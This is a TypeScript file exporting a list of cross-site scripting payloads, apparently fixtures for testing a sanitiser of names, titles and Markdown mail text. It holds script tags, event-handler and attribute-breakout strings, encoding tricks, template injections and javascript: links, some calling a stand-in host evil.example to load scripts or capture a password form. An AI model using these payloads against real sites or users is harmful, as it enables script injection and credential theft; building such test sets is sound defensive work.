/** What people have tried as a name, a title or a text: each opens a tag, leaves an attribute, or comes back from an escape. */
const BARE = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<svg><script>alert&#40;1)</script>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<body onload=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select onfocus=alert(1) autofocus>', '<video><source onerror=alert(1)>', '<audio src=x onerror=alert(1)>', '<marquee onstart=alert(1)>', '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">', '<iframe src=javascript:alert(1)>', '<object data=//evil.example>', '<embed src=//evil.example>', '<form action=//evil.example><input name=password>', '<button formaction=javascript:alert(1)>x',
  '<meta http-equiv=refresh content="0;url=//evil.example">', '<base href=//evil.example>', '<link rel=stylesheet href=//evil.example>', '<style>body{background:url(//evil.example)}</style>', '<table background="//evil.example">',
  '<a href="javascript:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<x contenteditable onblur=alert(1)>', '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)>">', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><x onload=alert(1)>', '</p></div></body><script>alert(1)</script>', '</title><script>alert(1)</script>', '</style><img src=x onerror=alert(1)>',
  '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' onfocus='alert(1)' autofocus='", '`onmouseover=alert(1)', '" style="background:url(//evil.example)', '"/><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&lt<script>', '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E', '<scr\u00ADipt>alert(1)</script>', '<\u200Bscript>alert(1)</script>',
  '<img src="x` `<script>alert(1)</script>"` `>', '<<script>alert(1)//<</script>', '<img """><script>alert(1)</script>">', '<img src=//evil.example/pixel.gif width=1>', '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7 * 7 %>',
]
/** The same through Markdown, which is text in a mail. */
const MARKDOWN = [
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](java\tscript:alert(1))', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](vbscript:x)', '![x](javascript:alert(1))', '![x](x "onerror=alert(1)")', '![" onerror="alert(1)](x)',
  '[x](https://evil.example"onmouseover="alert(1))', '<javascript:alert(1)>', '[x]: javascript:alert(1)', '```\n</code></pre><script>alert(1)</script>\n```', '`</code><img src=x onerror=alert(1)>`', '> <script>alert(1)</script>', '| <img src=x onerror=alert(1)> |',
]
export const PAYLOADS: readonly string[] = [...BARE, ...MARKDOWN]
